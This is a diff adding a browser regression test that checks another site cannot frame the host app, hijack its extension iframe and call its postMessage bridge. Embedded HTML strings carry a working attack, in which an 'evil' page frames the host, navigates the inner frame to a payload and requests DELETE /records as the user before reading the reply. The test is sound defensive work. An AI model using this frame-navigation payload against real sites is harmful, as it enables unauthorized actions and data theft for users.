@@ -183,3 +183,81 @@ def test_extension_ui_round_trip_in_chromium(runner: DevServer, monkeypatch: pyt
         driver.get(f"{base}{src}")  # type: ignore[attr-defined]
         WebDriverWait(driver, WAIT_S).until(ec.presence_of_element_located((By.ID, "loaded")))
         assert driver.execute_script("return window.origin") == "null"  # type: ignore[attr-defined]
+
+
+ATTACKER = """<!doctype html><title>another site</title>
+<iframe id="host" src="{host}/" width="900" height="500"></iframe>
+<pre id="result">waiting</pre>
+<script>
+window.addEventListener("message", function (e) {{
+  if (e.data && e.data.stolen) document.getElementById("result").textContent = JSON.stringify(e.data.stolen);
+}});
+document.getElementById("host").onload = function () {{
+  // A top-level page may navigate any frame below it, cross-origin ones included.
+  try {{ window.frames[0].frames[0].location = "{evil}/payload.html"; }}
+  catch (err) {{ document.getElementById("result").textContent = "no frame: " + err.name; }}
+}};
+</script>"""
+
+PAYLOAD = """<!doctype html><script>
+// In the host's extension iframe, in place of the extension: asks the bridge for a call.
+window.addEventListener("message", function (e) {
+  if (e.data && e.data.type === "runner_mw.result") top.postMessage({stolen: e.data}, "*");
+});
+parent.postMessage({type: "runner_mw.execute", id: "evil-1",
+                    http: {method: "DELETE", path: "/records", body: "chosen by another site"}}, "*");
+</script>"""
+
+
+@contextlib.contextmanager
+def another_site(pages: dict[str, str]) -> Iterator[str]:
+    """``pages`` served on a free port, reached as ``http://localhost:<port>``: another origin
+    than the host app's ``http://127.0.0.1:<port>``."""
+    import http.server
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            body = pages.get(self.path, "").encode()
+            self.send_response(200 if body else 404)
+            self.send_header("Content-Type", "text/html; charset=utf-8")
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://localhost:{server.server_address[1]}"
+    finally:
+        server.shutdown()
+        server.server_close()
+        thread.join(WAIT_S)
+
+
+def test_another_site_framing_the_host_page_gets_no_call_through_the_bridge(
+        runner: DevServer, monkeypatch: pytest.MonkeyPatch) -> None:
+    # The site framed the host page, navigated its extension iframe to a page of its own (the
+    # same contentWindow, which the bridge trusts), and had /v1/execute called as the user,
+    # reading the reply. The host page now refuses to be framed by another site.
+    reason = browser_missing()
+    if reason:
+        missing(reason)
+    monkeypatch.setenv("SE_OFFLINE", "true")
+    from selenium.webdriver.common.by import By
+
+    pages: dict[str, str] = {}
+    with tempfile.TemporaryDirectory(prefix="rmw-") as tmp, gunicorn(runner.url, Path(tmp)) as base, \
+            another_site(pages) as evil, chromium(Path(tmp) / "profile") as driver:
+        pages["/"] = ATTACKER.format(host=base, evil=evil)
+        pages["/payload.html"] = PAYLOAD
+        driver.get(evil + "/")  # type: ignore[attr-defined]
+        deadline = time.monotonic() + 8  # the whole round trip takes well under a second
+        text = "waiting"
+        while time.monotonic() < deadline and text == "waiting":
+            time.sleep(0.2)
+            text = driver.find_element(By.ID, "result").text  # type: ignore[attr-defined]
+        assert "status" not in text, f"another site got a reply through the bridge: {text}"
